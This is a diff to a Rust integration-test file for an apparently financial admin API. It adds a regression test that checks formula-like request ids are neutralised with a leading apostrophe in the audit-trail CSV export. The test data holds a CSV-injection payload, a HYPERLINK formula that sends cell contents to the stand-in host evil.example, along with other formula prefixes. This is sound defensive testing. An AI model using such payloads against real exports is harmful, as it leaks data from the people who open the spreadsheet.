@@ -2,10 +2,9 @@
 //! the audit trail of money-moving and access-changing actions, with the request id every
 //! answer carries. The app runs on port 0 on the embedded journal.
 
-mod support;
-
+use crate::support;
+use crate::support::api::{Backend, TestApp, bid, listed_node, quiet_opts};
 use serde_json::{Value, json};
-use support::api::{Backend, TestApp, bid, listed_node, quiet_opts};
 
 /// `POST` as the admin with our own `X-Request-Id`; answers (status, body, request id header).
 async fn post_as_admin(
@@ -921,4 +920,70 @@ async fn tax_details_print_on_documents_of_later_closes_and_closed_ones_never_ch
         invoice_bytes(&app, &fin, &invoice(1, "csv")).await,
         (200, csv1)
     );
+}
+
+/// Issue 25: a client-chosen `X-Request-Id` landed unchanged in the audit-trail CSV, so
+/// `=HYPERLINK(…)` became a live cell in the spreadsheet finance opens. Every prefix a
+/// spreadsheet reads as a formula comes out of the CSV with a leading `'`; JSON keeps the id
+/// as the client sent it (it is the id of the answer and of the entry).
+#[tokio::test]
+async fn request_ids_that_a_spreadsheet_would_run_are_text_in_the_audit_csv() {
+    let app = TestApp::start(Backend::Embedded, quiet_opts()).await;
+    let (buyer, _) = app.account("team-a", "buyer").await;
+    let (_, finance_key) = app.account("books", "finance").await;
+    let ids = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"statement\")",
+        "+1+1",
+        "-2+3",
+        "@SUM(A1:A9)",
+    ];
+    for (k, rid) in ids.iter().enumerate() {
+        let (s, v, echoed) = post_as_admin(
+            &app,
+            &format!("/v1/admin/accounts/{buyer}/deposits"),
+            json!({"amount": "1.00"}),
+            &format!("csv-{k}"),
+            rid,
+        )
+        .await;
+        assert_eq!((s, echoed.as_str()), (201, *rid), "{v}");
+    }
+    let (s, trail, _) = read(&app, &finance_key).await;
+    assert_eq!(s, 200);
+    let json_ids: Vec<&str> = trail
+        .as_array()
+        .expect("entries")
+        .iter()
+        .filter(|e| e["action"] == "deposit")
+        .map(|e| e["actor"]["request_id"].as_str().expect("id"))
+        .collect();
+    assert_eq!(json_ids, ids, "JSON keeps the ids as sent");
+    let c = app.client(Some(&finance_key));
+    let csv = c
+        .http
+        .get(format!(
+            "{}/v1/reports/audit-trail?from=0&format=csv",
+            c.base
+        ))
+        .bearer_auth(&finance_key)
+        .send()
+        .await
+        .expect("csv")
+        .text()
+        .await
+        .expect("text");
+    let mut reader = ::csv::Reader::from_reader(csv.as_bytes());
+    let column = reader
+        .headers()
+        .expect("header")
+        .iter()
+        .position(|h| h == "request_id")
+        .expect("request_id column");
+    let cells: Vec<String> = reader
+        .records()
+        .map(|r| r.expect("row")[column].to_string())
+        .filter(|c| !c.chars().all(|ch| ch.is_ascii_hexdigit() || ch == '-'))
+        .collect();
+    let expected: Vec<String> = ids.iter().map(|id| format!("'{id}")).collect();
+    assert_eq!(cells, expected, "{csv}");
 }
